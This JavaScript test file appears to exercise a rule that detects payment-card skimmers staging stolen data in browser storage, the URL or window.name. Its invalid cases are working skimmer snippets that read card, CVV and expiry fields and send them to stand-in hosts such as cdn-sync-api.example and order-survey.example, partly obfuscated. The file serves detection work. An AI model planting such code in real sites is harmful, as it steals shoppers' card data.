import rule from './storage-staging.js';
import { ruleTable } from '../test/helpers/rule-table.js';

ruleTable(rule, {
  valid: [
    { name: 'form autosave/history cache in a script that loads pages by URL (htmx-style)', code: "function save(form) { var o = {}; for (var i = 0; i < form.elements.length; i++) o[form.elements[i].name] = form.elements[i].value; sessionStorage.setItem('draft', JSON.stringify(o)); } function load(path) { var x = new XMLHttpRequest(); x.open('GET', path); x.send(); }" },
    { name: "a shop's filter form serialised into the page URL with pushState (SPA navigation), products fetched from the own site", code: "$('#filters').on('change', function () { var q = $(this).serialize(); history.pushState(null, '', '?' + q); fetch('/api/products?' + q).then(render); });" },
    "localStorage.setItem('cart', JSON.stringify(cart)); fetch('/api');",
    "localStorage.setItem('cc', document.getElementById('cc-number').value);",
    "sessionStorage.setItem('theme', 'dark'); navigator.sendBeacon('/b', 'x');",
  ],
  invalid: [
    { name: 'card number put in the page URL with history.replaceState by a script that sends requests', code: "document.forms[0].addEventListener('submit', function () { var n = document.getElementById('cardNumber').value; history.replaceState(null, '', location.pathname + '?ref=' + btoa(n)); new Image().src = 'https://badge.example/seal.png'; });", messageIds: ['staged'], severity: 'high' },
    { name: 'card added to an IndexedDB object store, sent off-site later', code: "var req = indexedDB.open('c', 1); req.onsuccess = function () { var db = req.result; document.querySelector('#cc-number').addEventListener('change', function () { db.transaction('q', 'readwrite').objectStore('q').add({ n: this.value }); }); setTimeout(function () { var g = db.transaction('q').objectStore('q').getAll(); g.onsuccess = function () { fetch('https:' + '//cdn-sync-api.example/q', { method: 'POST', body: JSON.stringify(g.result) }); }; }, 5000); };", messageIds: ['staged'], severity: 'high' },
    { name: 'window.name staging across pages (written on submit, read back and sent on the success page)', code: "(function (W, D) { function stash(f) { var el = f.elements, o = {}; for (var i = 0; i < el.length; i++) if (/cc_|cvv|cid|exp/i.test(el[i].name)) o[el[i].name] = el[i].value; W.name = 'k_' + JSON.stringify(o); } D.addEventListener('submit', function (e) { stash(e.target); }, true); if (/success/.test(location.pathname) && W.name.indexOf('k_') === 0) { var d = W.name.slice(2); W.name = ''; location.href = 'https:' + '//order-survey.example/s?o=' + encodeURIComponent(d); } })(window, document);", messageIds: ['staged'], severity: 'high' },
    { code: "localStorage.setItem('x', document.getElementById('cc-number').value); var x = new XMLHttpRequest(); x.open('POST', 'https://g.example/'); x.send(localStorage.getItem('x'));", messageIds: ['staged'], severity: 'high' },
    { code: "var d = $('form').serialize(); sessionStorage.setItem('d', d); new Image().src = 'https://g.example/?' + sessionStorage.getItem('d');", messageIds: ['staged'] },
  ],
});
